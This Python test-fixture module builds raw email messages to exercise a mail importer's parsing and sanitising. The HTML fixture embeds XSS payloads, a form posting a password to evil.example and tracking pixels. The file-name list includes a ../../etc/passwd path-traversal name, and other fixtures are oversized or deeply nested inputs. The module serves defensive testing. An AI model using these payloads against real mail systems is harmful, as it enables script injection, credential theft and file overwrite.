"""A corpus of raw RFC 822 messages shaped like real mail, for the import tests.

Every builder returns the exact bytes a mail server would hand over. Well-formed
structures are built with the standard library (email.mime); damage that must be
exact (8-bit headers, broken base64, bad nesting, garbage) is written by hand.

Attachment payloads are deterministic module-level bytes (or returned alongside the
message), so tests can compare the sha256 of what they put in with what comes out.
"""

import base64
import io
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass
from email import encoders
from email.mime.application import MIMEApplication
from email.mime.base import MIMEBase
from email.mime.image import MIMEImage
from email.mime.message import MIMEMessage
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email.utils import formataddr, formatdate

INBOX = "inbox@acme.test"


# ---------------------------------------------------------------------------
# Payloads


def pdf(label: str) -> bytes:
    """A tiny PDF; `label` makes its bytes (and sha256) unique."""
    return (
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
        + f"% {label}\n".encode()
        + b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def png(size: int = 0, *, seed: int = 0) -> bytes:
    """A valid 2x2 RGB PNG, padded with a private chunk to at least `size` bytes."""
    rows = b"".join(b"\x00" + bytes([seed % 256, 80, 160]) * 2 for _ in range(2))
    body = _png_chunk(
        b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    ) + _png_chunk(b"IDAT", zlib.compress(rows))
    image = b"\x89PNG\r\n\x1a\n" + body + _png_chunk(b"IEND", b"")
    missing = size - len(image) - 12
    if missing > 0:
        filler = random.Random(seed).randbytes(missing)
        image = image[:-12] + _png_chunk(b"prVt", filler) + image[-12:]
    return image


def jpeg(size: int = 2048, *, seed: int = 0) -> bytes:
    """JFIF header + filler + EOI: enough for any sniffer to say image/jpeg."""
    head = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    filler = random.Random(seed).randbytes(max(size - len(head) - 2, 0))
    return head + filler.replace(b"\xff", b"\x00") + b"\xff\xd9"


def zip_archive(name: str = "data.txt", text: str = "hello") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
        z.writestr(info, text)
    return buf.getvalue()


CSV = "item;amount;note\nwidget;12,50;naïve café\n".encode()
INVOICE_PDF = pdf("invoice 2024-001")
LOGO_PNG = png(6000, seed=1)  # the Outlook inline logo (referenced by cid:)
PHOTO_JPEG = jpeg(30_000, seed=2)


# ---------------------------------------------------------------------------
# Helpers


def _headers(
    msg,
    *,
    subject: str,
    sender: str,
    to: str = INBOX,
    message_id: str | None = None,
    date: bool = True,
    in_reply_to: str | None = None,
    references: str | None = None,
    cc: str | None = None,
) -> None:
    msg["From"] = sender
    msg["To"] = to
    if cc:
        msg["Cc"] = cc
    msg["Subject"] = subject
    if date:
        msg["Date"] = formatdate(1_700_000_000, localtime=False)
    if message_id:
        msg["Message-ID"] = message_id
    if in_reply_to:
        msg["In-Reply-To"] = in_reply_to
    if references:
        msg["References"] = references


def _mp(subtype: str, tag: str, **params: str) -> MIMEMultipart:
    """A multipart with a fixed boundary, so a builder always returns the same bytes."""
    return MIMEMultipart(subtype, boundary=f"----=_Part_{tag}", **params)


def _attachment(
    data: bytes,
    maintype: str,
    subtype: str,
    filename: str | None = None,
    *,
    disposition: str = "attachment",
) -> MIMEBase:
    part = MIMEBase(maintype, subtype)
    part.set_payload(data)
    encoders.encode_base64(part)
    if filename is not None:
        part.add_header("Content-Disposition", disposition, filename=filename)
    return part


def _b64_lines(data: bytes) -> bytes:
    return base64.encodebytes(data)


# ---------------------------------------------------------------------------
# Everyday mail


def simple(
    *,
    sender: str = "Alice Sender <alice@vendor.test>",
    subject: str = "Hello",
    message_id: str | None = "<simple@vendor.test>",
    to: str = INBOX,
    cc: str | None = None,
    in_reply_to: str | None = None,
    references: str | None = None,
    text: str = "Hello there.",
    attachments: list[tuple[str, bytes]] = (),
    date: bool = True,
) -> bytes:
    """text/plain, or multipart/mixed with PDF attachments (name, bytes)."""
    if attachments:
        msg = _mp("mixed", "simple")
        msg.attach(MIMEText(text, "plain", "utf-8"))
        for name, data in attachments:
            msg.attach(_attachment(data, "application", "pdf", name))
    else:
        msg = MIMEText(text, "plain", "utf-8")
    _headers(
        msg,
        subject=subject,
        sender=sender,
        to=to,
        cc=cc,
        message_id=message_id,
        date=date,
        in_reply_to=in_reply_to,
        references=references,
    )
    return msg.as_bytes()


OUTLOOK_CID = "image001.png@01DA1B2C.3D4E5F60"
OUTLOOK_HTML = (
    '<html><head><style>p{color:red}</style><script>alert("head")</script></head>'
    '<body onload="steal()"><p class="MsoNormal">Dear team,</p>'
    '<p onclick="evil()">Please find the invoice attached.</p>'
    f'<img src="cid:{OUTLOOK_CID}" width="120" alt="logo">'
    '<img src="https://tracker.example.net/pixel.gif?u=42" alt="">'
    '<script>document.location="https://evil.example"</script>'
    '<a href="https://vendor.test/portal" onmouseover="x()">Portal</a>'
    '<a href="javascript:alert(1)">click</a>'
    '<img src=x onerror="alert(2)"><svg onload="alert(3)"></svg>'
    '<iframe src="https://evil.example/frame"></iframe>'
    '<form action="https://evil.example/post"><input name="password"></form>'
    '<div style="background:url(https://tracker.example.net/bg.png)">styled</div>'
    '<img srcset="https://tracker.example.net/a.png 1x">'
    '<table background="https://tracker.example.net/t.png"><tr><td>cell</td></tr></table>'
    '<link rel="stylesheet" href="https://tracker.example.net/s.css">'
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==">data</a>'
    "</body></html>"
)


def outlook_related() -> bytes:
    """Outlook: mixed > related > (alternative > plain, html) + cid image; + PDF."""
    alternative = _mp("alternative", "outlook_alt")
    alternative.attach(
        MIMEText(
            "Dear team,\r\nPlease find the invoice attached.\r\n", "plain", "utf-8"
        )
    )
    alternative.attach(MIMEText(OUTLOOK_HTML, "html", "utf-8"))
    related = _mp("related", "outlook_rel", type="multipart/alternative")
    related.attach(alternative)
    logo = MIMEImage(LOGO_PNG, "png", name="image001.png")
    logo.add_header("Content-ID", f"<{OUTLOOK_CID}>")
    logo.add_header("Content-Disposition", "inline", filename="image001.png")
    related.attach(logo)
    msg = _mp("mixed", "outlook_mixed")
    msg.attach(related)
    msg.attach(_attachment(INVOICE_PDF, "application", "pdf", "Invoice 2024-001.pdf"))
    _headers(
        msg,
        subject="Invoice 2024-001",
        sender=formataddr(("Novák, Jan", "jan.novak@vendor.test"), "utf-8"),
        message_id="<outlook-1@vendor.test>",
        cc="Accounts <accounts@vendor.test>",
    )
    msg["X-Mailer"] = "Microsoft Outlook 16.0"
    return msg.as_bytes()


GMAIL_PDF = pdf("gmail statement")


def gmail_mixed() -> bytes:
    """Gmail: mixed > (alternative > plain, html) + PDF + JPEG + CSV attachments."""
    alternative = _mp("alternative", "gmail_alt")
    alternative.attach(MIMEText("Statement attached.\n", "plain", "utf-8"))
    alternative.attach(
        MIMEText('<div dir="ltr">Statement <b>attached</b>.</div>\n', "html", "utf-8")
    )
    msg = _mp("mixed", "gmail_mixed")
    msg.attach(alternative)
    msg.attach(_attachment(GMAIL_PDF, "application", "pdf", "statement.pdf"))
    msg.attach(_attachment(PHOTO_JPEG, "image", "jpeg", "photo.jpg"))
    csv = MIMEText(CSV.decode(), "csv", "utf-8")
    csv.add_header("Content-Disposition", "attachment", filename="items.csv")
    msg.attach(csv)
    _headers(
        msg,
        subject="Fwd: statement",
        sender="Bob <bob@gmail.test>",
        message_id="<CAF=gmail-1@mail.gmail.test>",
    )
    return msg.as_bytes()


# ---------------------------------------------------------------------------
# File names in many encodings

# (raw Content-Disposition / Content-Type parameters, expected decoded name, payload)
NAMED_FILES: list[tuple[str, str, bytes]] = [
    # RFC 2231, UTF-8
    (
        "attachment; filename*=utf-8''"
        "%C5%BElu%C5%A5ou%C4%8Dk%C3%BD%20k%C5%AF%C5%88.pdf",
        "žluťoučký kůň.pdf",
        pdf("czech"),
    ),
    # RFC 2231, ISO-8859-1, with a language tag
    (
        "attachment; filename*=iso-8859-1'fr'r%E9sum%E9%20final.pdf",
        "résumé final.pdf",
        pdf("french"),
    ),
    # RFC 2231 continuations
    (
        "attachment;\r\n filename*0*=utf-8''Rechnung%20f%C3%BCr%20;\r\n"
        " filename*1*=M%C3%A4rz%202024.pdf",
        "Rechnung für März 2024.pdf",
        pdf("german"),
    ),
    # RFC 2047 in a quoted parameter (what many mailers really send), Q encoding
    (
        'attachment; filename="=?iso-8859-1?Q?Fran=E7ais_=E9t=E9.pdf?="',
        "Français été.pdf",
        pdf("latin1-q"),
    ),
    # RFC 2047, KOI8-R, B encoding
    (
        'attachment; filename="=?koi8-r?B?'
        + base64.b64encode("Счёт 7.pdf".encode("koi8-r")).decode()
        + '?="',
        "Счёт 7.pdf",
        pdf("russian"),
    ),
    # RFC 2047, Shift_JIS, B encoding
    (
        'attachment; filename="=?shift_jis?B?'
        + base64.b64encode("請求書.pdf".encode("shift_jis")).decode()
        + '?="',
        "請求書.pdf",
        pdf("japanese"),
    ),
    # Path traversal, RFC 2231 (%2F is "/")
    ("attachment; filename*=utf-8''..%2F..%2Fetc%2Fpasswd", "passwd", pdf("traversal")),
    # Windows path
    (
        'attachment; filename="C:\\\\Users\\\\bob\\\\evil.pdf"',
        "evil.pdf",
        pdf("windows"),
    ),
    # Control characters (BEL, ESC, NUL) through RFC 2231
    (
        "attachment; filename*=utf-8''in%07vo%1Bice%00.pdf",
        "invoice.pdf",
        pdf("control"),
    ),
]


def international_names() -> bytes:
    """One PDF per NAMED_FILES entry, each with its hand-written disposition."""
    parts = [
        b"--NAMES\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nFiles attached.\r\n"
    ]
    for disposition, _, data in NAMED_FILES:
        parts.append(
            b"--NAMES\r\nContent-Type: application/pdf\r\n"
            b"Content-Transfer-Encoding: base64\r\n"
            b"Content-Disposition: "
            + disposition.encode()
            + b"\r\n\r\n"
            + _b64_lines(data)
        )
    return (
        b"From: =?utf-8?Q?Ji=C5=99=C3=AD?= <jiri@vendor.test>\r\n"
        b"To: " + INBOX.encode() + b"\r\n"
        b"Subject: =?iso-8859-1?Q?Pi=E8ces_jointes?=\r\n"
        b"Message-ID: <names-1@vendor.test>\r\n"
        b"Date: Tue, 14 Nov 2023 22:13:20 +0000\r\n"
        b"MIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="NAMES"\r\n\r\n'
        + b"".join(parts)
        + b"--NAMES--\r\n"
    )


# ---------------------------------------------------------------------------
# Damage

UNKNOWN_CHARSET_TEXT = "Zahlung über 100 € erhalten."


def unknown_charset() -> bytes:
    return (
        b"From: Carl <carl@vendor.test>\r\n"
        b"To: " + INBOX.encode() + b"\r\n"
        b"Subject: Charset trouble\r\n"
        b"Message-ID: <charset-1@vendor.test>\r\n"
        b"MIME-Version: 1.0\r\n"
        b'Content-Type: text/plain; charset="x-unknown-42"\r\n'
        b"Content-Transfer-Encoding: 8bit\r\n\r\n"
        + UNKNOWN_CHARSET_TEXT.encode()
        + b"\r\n"
    )


BROKEN_B64_GOOD_PDF = pdf("intact neighbour")


def broken_base64() -> bytes:
    """One attachment whose base64 has bad characters and bad padding, one intact."""
    good = _b64_lines(BROKEN_B64_GOOD_PDF)
    broken = (
        b"JVBERi0xLjQK!!!@@@###\r\n"
        b"Jcfsj6IKMSAwIG9iago8PC9UeXBlL0NhdGFsb2c+Pg*\r\n"
        b"ZW5k=a\r\n"
    )
    return (
        b"From: Dana <dana@vendor.test>\r\n"
        b"To: " + INBOX.encode() + b"\r\n"
        b"Subject: Broken attachment\r\n"
        b"Message-ID: <b64-1@vendor.test>\r\n"
        b"MIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="B"\r\n\r\n'
        b"--B\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
        b"--B\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n"
        b'Content-Disposition: attachment; filename="broken.pdf"\r\n\r\n'
        + broken
        + b"--B\r\nContent-Type: application/pdf\r\n"
        b"Content-Transfer-Encoding: base64\r\n"
        b'Content-Disposition: attachment; filename="good.pdf"\r\n\r\n'
        + good
        + b"--B--\r\n"
    )


def eight_bit_headers() -> bytes:
    """Latin-1 bytes straight in Subject and From (no RFC 2047), no charset anywhere."""
    return (
        b"From: Ren\xe9 M\xfcller <rene.mueller@vendor.test>\r\n"
        b"To: " + INBOX.encode() + b"\r\n"
        b"Subject: Caf\xe9 r\xe9sum\xe9 for order 77\r\n"
        b"Message-ID: <8bit-1@vendor.test>\r\n"
        b"Date: Tue, 14 Nov 2023 22:13:20 +0000\r\n\r\n"
        b"Plain ASCII body.\r\n"
    )


NO_ID_PDF = pdf("anonymous")


def no_message_id_no_date() -> bytes:
    """What some scanners and scripts send: no Message-ID, no Date, no MIME-Version."""
    msg = _mp("mixed", "scan")
    msg.attach(MIMEText("scan attached", "plain", "utf-8"))
    msg.attach(_attachment(NO_ID_PDF, "application", "pdf", "scan0001.pdf"))
    msg["From"] = "scanner@printer.vendor.test"
    msg["To"] = INBOX
    msg["Subject"] = "Scanned document"
    del msg["MIME-Version"]
    return msg.as_bytes()


def forward_payload(level: int) -> bytes:
    return pdf(f"forward level {level}")


def forward_chain(depth: int = 3) -> bytes:
    """A forward of a forward of ...: message/rfc822 nested `depth` times, every
    message (the outer one too) with its own PDF (forward_payload(level))."""
    inner = None
    for level in range(depth, -1, -1):  # innermost first; level 0 is the outer message
        msg = _mp("mixed", f"fwd{level}")
        msg.attach(MIMEText(f"Forwarded at level {level}.", "plain", "utf-8"))
        msg.attach(
            _attachment(
                forward_payload(level), "application", "pdf", f"level-{level}.pdf"
            )
        )
        if inner is not None:
            wrapped = MIMEMessage(inner)
            wrapped.add_header(
                "Content-Disposition", "attachment", filename=f"forward-{level + 1}.eml"
            )
            msg.attach(wrapped)
        _headers(
            msg,
            subject=f"Fwd: level {level}",
            sender=f"fw{level}@vendor.test",
            message_id=f"<fwd-{depth}-{level}@vendor.test>",
        )
        inner = msg
    assert inner is not None
    return inner.as_bytes()


def _tnef_attribute(level: int, attr_id: int, attr_type: int, data: bytes) -> bytes:
    """One TNEF attribute: level, id, type, length, data, 16-bit additive checksum."""
    return (
        struct.pack("<BHHI", level, attr_id, attr_type, len(data))
        + data
        + struct.pack("<H", sum(data) & 0xFFFF)
    )


def tnef_blob(files: list[tuple[str, bytes]], *, title_codec: str = "utf-8") -> bytes:
    """A minimal valid TNEF stream (MS-OXTNEF): signature, key, version, OEM code
    page, message class, then per file attAttachRendData, attAttachTitle and
    attAttachData."""
    blob = struct.pack("<IH", 0x223E9F78, 0x0001)
    blob += _tnef_attribute(1, 0x9006, 0x0008, struct.pack("<I", 0x00010000))  # version
    blob += _tnef_attribute(1, 0x9007, 0x0006, struct.pack("<II", 1252, 0))  # code page
    blob += _tnef_attribute(1, 0x8008, 0x0007, b"IPM.Microsoft Mail.Note\x00")
    for name, data in files:
        rend = struct.pack("<HIHHI", 1, 0xFFFFFFFF, 0, 0, 0)  # file attachment
        blob += _tnef_attribute(2, 0x9002, 0x0006, rend)
        blob += _tnef_attribute(2, 0x8010, 0x0001, name.encode(title_codec) + b"\x00")
        blob += _tnef_attribute(2, 0x800F, 0x0006, data)
    return blob


TNEF_FILES = [
    ("contract.pdf", pdf("tnef contract")),
    ("notes.txt", b"Meeting notes\r\n"),
]


def tnef_message(
    blob: bytes | None = None, *, message_id: str = "<tnef-1@vendor.test>"
) -> bytes:
    """Outlook's Rich Text mail: a text part and winmail.dat (application/ms-tnef)."""
    msg = _mp("mixed", "tnef")
    msg.attach(MIMEText("See the attached files.", "plain", "utf-8"))
    winmail = MIMEApplication(
        blob if blob is not None else tnef_blob(TNEF_FILES),
        "ms-tnef",
        name="winmail.dat",
    )
    winmail.add_header("Content-Disposition", "attachment", filename="winmail.dat")
    msg.attach(winmail)
    _headers(
        msg,
        subject="Rich text mail",
        sender="Exchange User <ex@corp.vendor.test>",
        message_id=message_id,
    )
    return msg.as_bytes()


def corrupted_tnef() -> bytes:
    """winmail.dat with a valid signature, then an attribute claiming 2 GB of data."""
    blob = struct.pack("<IH", 0x223E9F78, 1) + b"\x02\x05\x90\x06\x00\xff\xff\xff\x7f"
    return tnef_message(blob + b"x" * 40, message_id="<tnef-bad-1@vendor.test>")


def big_attachment(size: int = 20_000_000) -> tuple[bytes, bytes]:
    """A message with one attachment of `size` bytes; returns (raw, attachment)."""
    data = pdf("big") + random.Random(20).randbytes(size - len(pdf("big")))
    head = (
        b"From: Big Sender <big@vendor.test>\r\n"
        b"To: " + INBOX.encode() + b"\r\n"
        b"Subject: Large scan\r\n"
        b"Message-ID: <big-1@vendor.test>\r\n"
        b"MIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="BIG"\r\n\r\n'
        b"--BIG\r\nContent-Type: text/plain\r\n\r\nlarge file\r\n"
        b"--BIG\r\nContent-Type: application/pdf\r\n"
        b"Content-Transfer-Encoding: base64\r\n"
        b'Content-Disposition: attachment; filename="large.pdf"\r\n\r\n'
    )
    return head + base64.encodebytes(data) + b"--BIG--\r\n", data


def deep_nesting(levels: int = 1000) -> bytes:
    """multipart/mixed nested `levels` deep, a text part at the bottom."""
    head = (
        b"From: Nester <nest@vendor.test>\r\n"
        b"To: " + INBOX.encode() + b"\r\n"
        b"Subject: Deep\r\n"
        b"Message-ID: <deep-1@vendor.test>\r\n"
        b"MIME-Version: 1.0\r\n"
    )
    opening, closing = [], []
    for i in range(levels):
        opening.append(
            f'Content-Type: multipart/mixed; boundary="b{i}"\r\n\r\n--b{i}\r\n'.encode()
        )
        closing.append(f"\r\n--b{i}--\r\n".encode())
    leaf = b"Content-Type: text/plain\r\n\r\nbottom"
    return head + b"".join(opening) + leaf + b"".join(reversed(closing))


def many_parts(count: int = 600) -> bytes:
    """multipart/mixed with `count` small CSV attachments."""
    parts = [
        f"--MANY\r\nContent-Type: text/csv\r\n"
        f'Content-Disposition: attachment; filename="row-{i}.csv"\r\n\r\n{i};x\r\n'
        for i in range(count)
    ]
    return (
        "From: Many <many@vendor.test>\r\n"
        f"To: {INBOX}\r\nSubject: Many parts\r\nMessage-ID: <many-1@vendor.test>\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="MANY"\r\n\r\n'
        + "".join(parts)
        + "--MANY--\r\n"
    ).encode()


def garbage(size: int = 4096) -> bytes:
    return random.Random(99).randbytes(size)


def empty() -> bytes:
    return b""


SMALL_PNG = png(0, seed=3)  # ~70 bytes
BIG_PNG = png(5000, seed=4)


def small_images() -> bytes:
    """Two images under any sensible minImageBytes, one above it, and a PDF."""
    msg = _mp("mixed", "images")
    msg.attach(MIMEText("Images attached.", "plain", "utf-8"))
    msg.attach(_attachment(SMALL_PNG, "image", "png", "spacer.png"))
    msg.attach(_attachment(jpeg(300, seed=5), "image", "jpeg", "tiny.jpg"))
    msg.attach(_attachment(BIG_PNG, "image", "png", "chart.png"))
    msg.attach(_attachment(INVOICE_PDF, "application", "pdf", "invoice.pdf"))
    _headers(
        msg,
        subject="Pictures",
        sender="eve@vendor.test",
        message_id="<images-1@vendor.test>",
    )
    return msg.as_bytes()


ZIP_BYTES = zip_archive()


def unaccepted_type() -> bytes:
    """A ZIP declared as PDF (the sniffer must see through it) and a real PDF."""
    msg = _mp("mixed", "zip")
    msg.attach(MIMEText("Archive attached.", "plain", "utf-8"))
    msg.attach(_attachment(ZIP_BYTES, "application", "pdf", "not-really.pdf"))
    msg.attach(_attachment(INVOICE_PDF, "application", "pdf", "invoice.pdf"))
    _headers(
        msg,
        subject="Archive",
        sender="fred@vendor.test",
        message_id="<zip-1@vendor.test>",
    )
    return msg.as_bytes()


HTML_ONLY = (
    "<html><head><title>T</title><style>.x{}</style></head><body>"
    "<h1>Order&nbsp;confirmed</h1><p>Line one<br>Line two</p>"
    "<div>Total: <b>42 &euro;</b></div><script>var secret = 1;</script></body></html>"
)


def html_only() -> bytes:
    msg = MIMEText(HTML_ONLY, "html", "utf-8")
    _headers(
        msg,
        subject="HTML only",
        sender="shop@vendor.test",
        message_id="<html-1@vendor.test>",
    )
    return msg.as_bytes()


LONG_TEXT = "Příliš žluťoučký kůň úpěl ďábelské ódy — €uro ✓ " * 200  # multi-byte


def long_bodies() -> bytes:
    alternative = _mp("alternative", "long")
    alternative.attach(MIMEText(LONG_TEXT, "plain", "utf-8"))
    alternative.attach(MIMEText(f"<p>{LONG_TEXT}</p>", "html", "utf-8"))
    _headers(
        alternative,
        subject="Long",
        sender="long@vendor.test",
        message_id="<long-1@vendor.test>",
    )
    return alternative.as_bytes()


@dataclass
class Sample:
    """A corpus message, for the "every message ends cleanly" sweep."""

    name: str
    raw: bytes
    documents: int | None = None  # expected document count, when known


def everyday_and_damaged() -> list[Sample]:
    """The whole corpus except the 20 MB and 1,000-level messages (tested once each)."""
    return [
        Sample("outlook_related", outlook_related(), 1),
        Sample("gmail_mixed", gmail_mixed(), 3),
        Sample("international_names", international_names(), len(NAMED_FILES)),
        Sample("unknown_charset", unknown_charset(), 0),
        Sample("broken_base64", broken_base64(), 2),
        Sample("eight_bit_headers", eight_bit_headers(), 0),
        Sample("no_message_id_no_date", no_message_id_no_date(), 1),
        Sample("forward_chain", forward_chain(3), 4),
        Sample("tnef", tnef_message(), 2),
        Sample("corrupted_tnef", corrupted_tnef(), 0),
        Sample("garbage", garbage()),
        Sample("empty", empty()),
        Sample("small_images", small_images(), 4),
        Sample("unaccepted_type", unaccepted_type(), 2),
        Sample("html_only", html_only(), 0),
        Sample("long_bodies", long_bodies(), 0),
    ]
